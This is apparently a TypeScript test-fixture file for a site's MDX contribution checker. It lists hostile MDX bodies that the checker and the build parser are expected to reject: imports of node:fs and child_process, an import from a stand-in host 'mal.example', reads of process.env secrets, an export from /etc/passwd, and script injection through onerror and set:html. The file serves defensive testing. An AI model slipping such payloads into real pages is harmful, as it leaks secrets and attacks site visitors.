import type { Contribution } from './contribution.ts';
import { mdxPage, SCRIPT, SECRET } from './contribution.ts';

const RUNS = 'the build reads MDX with the parser that would run it, and stops';

/** Programs in MDX: `pnpm check` names them, and the build's own parser refuses them again. */
const BODIES: [name: string, body: string][] = [
  ['an import of the file system', 'import fs from "node:fs"\n\nTexte.'],
  ['an import by an address', 'import x from "https://mal.example/x.js"\n\nTexte.'],
  ['an export', 'export const a = process.exit(1)\n\nTexte.'],
  ['a layout of its own', 'export { default } from "/etc/passwd"\n\nTexte.'],
  ['an expression among words', `Un {process.env.${SECRET.variable}} mot`],
  ['an expression as a block', '{await import("node:child_process")}'],
  ['an expression in a comment', '{/* */ process.exit(1)}'],
  ['an expression in an attribute', `<Encart titre={process.env.${SECRET.variable}}>x</Encart>`],
  ['attributes from an object', '<Encart {...process.env}>x</Encart>'],
  [
    'HTML in an attribute of Astro',
    `<Encart titre="x" set:html="<img src=x onerror=${SCRIPT}>" />`,
  ],
  ['a component that runs in the browser', '<Encart titre="x" client:load>x</Encart>'],
  ['a component that nobody listed', '<Inconnu />'],
  ['a member of an object', '<process.env.HOME />'],
  ['a script', `<script>${SCRIPT}</script>`],
  ['a fragment with HTML', `<Fragment set:html="<script>${SCRIPT}</script>" />`],
];

export const mdx: Contribution[] = [
  ...BODIES.map(([name, body], index) => ({
    name: `MDX: ${name}`,
    files: mdxPage(`mdx-${index + 1}`, body),
    findings: [{ code: 'mdx' as const, at: body.split('\n')[0] }],
    unbuildable: RUNS,
  })),
  {
    name: 'MDX: where Markdown alone is taken',
    files: {
      'articles/2026/mdx-article/index.mdx': '---\ntitle: Un titre\n---\n\nimport "node:fs"\n',
    },
    findings: [{ code: 'index-absent' as const }],
  },
];
